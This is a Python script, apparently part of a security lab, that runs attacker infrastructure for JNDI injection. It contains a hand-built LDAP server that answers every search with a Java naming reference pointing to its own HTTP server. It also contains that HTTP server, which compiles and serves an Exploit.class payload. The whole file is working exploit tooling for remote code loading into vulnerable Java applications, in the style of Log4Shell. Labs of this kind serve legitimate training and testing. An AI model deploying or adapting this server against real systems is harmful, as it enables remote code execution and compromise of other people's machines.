"""The lab's attacker infrastructure: an LDAP server that answers every search with a Java naming
reference (javaCodeBase = this pod's HTTP server), and that HTTP server, serving Exploit.class.

Minimal BER, just what the JDK's LDAP client sends: BindRequest -> BindResponse success,
SearchRequest -> SearchResultEntry + SearchResultDone, UnbindRequest -> close.
"""

from __future__ import annotations

import functools
import http.server
import signal
import socketserver
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

LDAP_PORT = 1389
HTTP_PORT = 8000
FACTORY = "Exploit"

BIND_REQUEST, BIND_RESPONSE = 0x60, 0x61
SEARCH_REQUEST, SEARCH_ENTRY, SEARCH_DONE = 0x63, 0x64, 0x65
UNBIND_REQUEST = 0x42
SEQUENCE, SET, INTEGER, OCTETS, ENUMERATED = 0x30, 0x31, 0x02, 0x04, 0x0A


def tlv(tag: int, value: bytes) -> bytes:
    """One BER element with a definite length (short or long form)."""
    n = len(value)
    if n < 0x80:
        return bytes([tag, n]) + value
    size = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(size)]) + size + value


def elements(value: bytes) -> list[tuple[int, bytes]]:
    """The (tag, value) elements inside a constructed BER value."""
    out, i = [], 0
    while i < len(value):
        tag, n, i = value[i], value[i + 1], i + 2
        if n & 0x80:
            width = n & 0x7F
            n, i = int.from_bytes(value[i : i + width], "big"), i + width
        out.append((tag, value[i : i + n]))
        i += n
    return out


def read_message(stream) -> tuple[int, bytes] | None:
    """The next LDAPMessage (tag, value) from a socket file, or None at end of stream."""
    head = stream.read(2)
    if len(head) < 2:
        return None
    tag, n = head
    if n & 0x80:
        n = int.from_bytes(stream.read(n & 0x7F), "big")
    return tag, stream.read(n)


def message(msgid: bytes, op: int, body: bytes) -> bytes:
    return tlv(SEQUENCE, tlv(INTEGER, msgid) + tlv(op, body))


def result(code: int = 0) -> bytes:
    """LDAPResult: resultCode, empty matchedDN, empty diagnosticMessage."""
    return tlv(ENUMERATED, bytes([code])) + tlv(OCTETS, b"") + tlv(OCTETS, b"")


def attribute(name: str, value: str) -> bytes:
    return tlv(SEQUENCE, tlv(OCTETS, name.encode()) + tlv(SET, tlv(OCTETS, value.encode())))


def reference_entry(dn: bytes, codebase: str) -> bytes:
    """A SearchResultEntry carrying a javaNamingReference whose factory lives at codebase."""
    attrs = (
        attribute("javaClassName", FACTORY)
        + attribute("javaCodeBase", codebase)
        + attribute("objectClass", "javaNamingReference")
        + attribute("javaFactory", FACTORY)
    )
    return tlv(OCTETS, dn) + tlv(SEQUENCE, attrs)


class LdapHandler(socketserver.BaseRequestHandler):
    """One LDAP connection: answer binds and searches until unbind or close."""

    def handle(self) -> None:
        stream = self.request.makefile("rb")
        codebase = f"http://{self.request.getsockname()[0]}:{HTTP_PORT}/"
        while (msg := read_message(stream)) is not None:
            (_, msgid), (op, body), *_ = elements(msg[1])
            if op == BIND_REQUEST:
                self.request.sendall(message(msgid, BIND_RESPONSE, result()))
            elif op == SEARCH_REQUEST:
                dn = elements(body)[0][1]
                print(f"ldap search {dn!r} from {self.client_address[0]}", flush=True)
                self.request.sendall(
                    message(msgid, SEARCH_ENTRY, reference_entry(dn, codebase))
                    + message(msgid, SEARCH_DONE, result())
                )
            elif op == UNBIND_REQUEST:
                return


class ClassHandler(http.server.SimpleHTTPRequestHandler):
    """Serves the compiled classes with the Java class MIME type."""

    extensions_map = {".class": "application/java-vm", "": "application/octet-stream"}


def compile_payload(out: Path) -> None:
    """Compile Exploit.java (beside this file) into out."""
    source = Path(__file__).with_name(f"{FACTORY}.java")
    subprocess.run(["javac", "-d", str(out), str(source)], check=True)


def main() -> None:
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))  # so the class folder is removed
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    with tempfile.TemporaryDirectory(prefix="netmon-lab-classes-") as classes:
        compile_payload(Path(classes))
        ldap = socketserver.ThreadingTCPServer(("0.0.0.0", LDAP_PORT), LdapHandler)
        threading.Thread(target=ldap.serve_forever, daemon=True).start()
        handler = functools.partial(ClassHandler, directory=classes)
        web = http.server.ThreadingHTTPServer(("0.0.0.0", HTTP_PORT), handler)
        print(f"ldap on {LDAP_PORT}, classes on {HTTP_PORT}", flush=True)
        web.serve_forever()


if __name__ == "__main__":
    main()
